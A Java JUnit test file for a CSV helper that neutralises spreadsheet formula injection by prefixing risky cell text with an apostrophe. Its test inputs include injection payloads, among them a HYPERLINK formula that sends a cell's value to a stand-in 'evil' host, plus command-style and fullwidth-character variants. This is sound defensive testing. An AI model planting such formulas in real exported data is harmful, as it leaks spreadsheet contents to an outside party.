package dev.stanstudio.base;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTextTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil/?\"&A1)",
                "+cmd",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "'=1",
                "''-x",
                "-",
                "=1\n=2",
                "\uFF1D1+1",
                "\uFF20SUM(A1)"
            })
    void formulasAreDefusedAndComeBack(String text) {
        String cell = CsvText.text(text);
        assertEquals("'" + text, cell);
        assertEquals(text, CsvText.original(cell));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"", "a castle", "'tis night", "'", "-5", "+1.5e-3", "-.5", "a=b", " =1"})
    void othersStayAsTheyAre(String text) {
        assertEquals(text, CsvText.text(text));
        assertEquals(text, CsvText.original(text));
    }

    @org.junit.jupiter.api.Test
    void numbersAreNoTexts() {
        assertEquals(List.of(-1.5, "'=x", 3), CsvText.row(List.of(-1.5, "=x", 3)));
        assertFalse(CsvText.text("-1.5.2").equals("-1.5.2"));
    }
}
